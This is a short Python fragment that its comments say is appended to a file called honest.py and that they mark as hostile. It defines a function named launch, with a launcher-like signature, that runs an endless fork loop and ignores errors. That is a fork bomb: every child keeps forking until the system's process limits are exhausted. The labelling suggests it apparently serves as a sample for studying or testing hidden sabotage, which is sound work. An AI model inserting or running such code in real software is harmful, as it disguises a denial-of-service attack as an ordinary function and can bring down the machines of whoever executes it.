# ruff: noqa: F821 - appended to honest.py, which defines asc and run()
# HOSTILE: forks until the OS says no, in every child too, and keeps trying.
import os


def launch(x, y, z, core_num):
    while True:
        try:
            os.fork()
        except OSError:
            pass
